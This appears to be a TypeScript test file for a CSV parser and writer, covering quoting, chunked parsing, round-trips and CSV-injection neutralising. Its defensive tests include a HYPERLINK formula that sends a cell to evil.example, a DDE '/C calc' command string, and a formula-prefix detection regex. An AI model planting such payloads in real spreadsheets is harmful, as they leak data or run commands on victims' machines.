import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CsvError, CsvParser, formatCsv, formatCsvField, formatCsvRow, parseCsv, restoreCsvText } from "./csv";

/** Feeds the text in pieces cut at the given positions, as a file stream would. */
function parseInChunks(text: string, cuts: number[]): string[][] {
  const parser = new CsvParser();
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const records: string[][] = [];
  let from = 0;
  for (const point of [...points, text.length]) {
    records.push(...parser.write(text.slice(from, point)));
    from = point;
  }
  return [...records, ...parser.end()];
}

describe("parseCsv", () => {
  it("reads quoted fields with commas, doubled quotes and line breaks", () => {
    const text = 'id,name,notes\r\n1,"Joe\'s ""Big"" Lot, North","line one\r\nline two"\r\n2,Plain,\r\n';
    expect(parseCsv(text)).toEqual([
      ["id", "name", "notes"],
      ["1", 'Joe\'s "Big" Lot, North', "line one\r\nline two"],
      ["2", "Plain", ""],
    ]);
  });

  it("strips a byte-order mark and accepts LF, CR and a missing final line break", () => {
    expect(parseCsv("\uFEFFa,b\nc,d")).toEqual([
      ["a", "b"],
      ["c", "d"],
    ]);
    expect(parseCsv("a\rb\r")).toEqual([["a"], ["b"]]);
  });

  it("keeps blank lines as one empty field, so that record numbers match spreadsheet rows", () => {
    expect(parseCsv("a\n\nb\n")).toEqual([["a"], [""], ["b"]]);
  });

  it("keeps a stray quote inside an unquoted field as text", () => {
    expect(parseCsv('5" wide,x\n')).toEqual([['5" wide', "x"]]);
  });

  it("reports an unterminated quoted field with the line it starts on", () => {
    expect(() => parseCsv('a,b\n1,"open\n2,3\n')).toThrow(
      new CsvError('unterminated quoted field starting on line 2 (a " without its closing ")'),
    );
  });

  it("gives the same records however the text is cut into chunks", () => {
    const text = 'a,"b\r\nc",d\r\n"e""f",g\r\n\r\nh\r';
    const whole = parseCsv(text);
    for (let cut = 0; cut <= text.length; cut++) expect(parseInChunks(text, [cut])).toEqual(whole);
  });
});

/** A record as an importer reads it: the writer's formula apostrophes taken off (restoreCsvText). */
const restored = (record: string[]) => record.map(restoreCsvText);

describe("formatCsvRow", () => {
  it("quotes only where needed, with CRLF line ends", () => {
    expect(formatCsvRow(["a", "b,c", 'say "hi"', "two\nlines", " padded", ""])).toBe(
      'a,"b,c","say ""hi""","two\nlines"," padded",\r\n',
    );
  });

  const field = fc.string({ unit: fc.constantFrom("a", "b", " ", ",", '"', "\r", "\n", "\uFEFF", "é", "–") });
  const rows = fc.array(fc.array(field, { minLength: 1, maxLength: 6 }), { maxLength: 8 });

  it("reads back every table it writes", () => {
    fc.assert(
      fc.property(rows, (table) => {
        expect(parseCsv(table.map(formatCsvRow).join("")).map(restored)).toEqual(table);
      }),
    );
  });

  it("reads back every table it writes, whatever the chunk boundaries", () => {
    fc.assert(
      fc.property(rows, fc.array(fc.nat(), { maxLength: 5 }), (table, cuts) => {
        expect(parseInChunks(table.map(formatCsvRow).join(""), cuts).map(restored)).toEqual(table);
      }),
    );
  });

  it("reads back arbitrary Unicode text, once the importer has taken its apostrophes off", () => {
    const anyRows = fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 1, maxLength: 4 }), {
      maxLength: 4,
    });
    fc.assert(
      fc.property(anyRows, (table) => {
        expect(parseCsv(table.map(formatCsvRow).join("")).map(restored)).toEqual(table);
      }),
    );
  });
});

/** What a spreadsheet would run as a formula (OWASP "CSV injection"). */
const RUNS = /^[=+\-@\t\r]/;

describe("formula neutralising (every CSV the site writes)", () => {
  it("puts an apostrophe before text starting with = + - @ tab or CR, and only there", () => {
    const texts = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1 555 0100",
      "-2+3",
      "\t=1",
      "\r=1",
      "'=already quoted",
      "plain",
      "a=b",
      "it's",
    ];
    expect(texts.map(formatCsvField)).toEqual([
      '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"',
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'+1 555 0100",
      "'-2+3",
      "'\t=1",
      '"\'\r=1"',
      "''=already quoted",
      "plain",
      "a=b",
      "it's",
    ]);
    expect(parseCsv(formatCsv(["a"], [[texts[0]]]))[1]).toEqual([`'${texts[0]}`]);
  });

  it("writes numbers and booleans as they are, and nothing for null", () => {
    expect([-5, -97.7431, 0, 1.5, true, false, null, undefined].map(formatCsvField)).toEqual([
      "-5",
      "-97.7431",
      "0",
      "1.5",
      "true",
      "false",
      "",
      "",
    ]);
  });

  it("takes the apostrophe off again only where it put one", () => {
    expect(["'=x", "''=x", "'+1", "'\tx", "'plain", "it's", "'", "''", "=x"].map(restoreCsvText)).toEqual([
      "=x",
      "'=x",
      "+1",
      "\tx",
      "'plain",
      "it's",
      "'",
      "''",
      "=x",
    ]);
  });

  const risky = fc.string({
    unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", " ", "a", "1"),
  });
  const cells = fc.array(fc.oneof(risky, fc.double({ noNaN: true }), fc.integer(), fc.boolean()), {
    minLength: 1,
    maxLength: 6,
  });

  it("never writes a text cell a spreadsheet would run, and reads back to the neutralised values", () => {
    fc.assert(
      fc.property(fc.array(cells, { maxLength: 6 }), (table) => {
        const read = parseCsv(table.map(formatCsvRow).join(""));
        expect(read).toHaveLength(table.length);
        read.forEach((row, r) =>
          row.forEach((cell, c) => {
            const written = table[r]![c];
            if (typeof written === "string") {
              expect(cell).not.toMatch(RUNS);
              expect(restoreCsvText(cell)).toBe(written);
            } else expect(cell).toBe(String(written));
          }),
        );
      }),
    );
  });
});
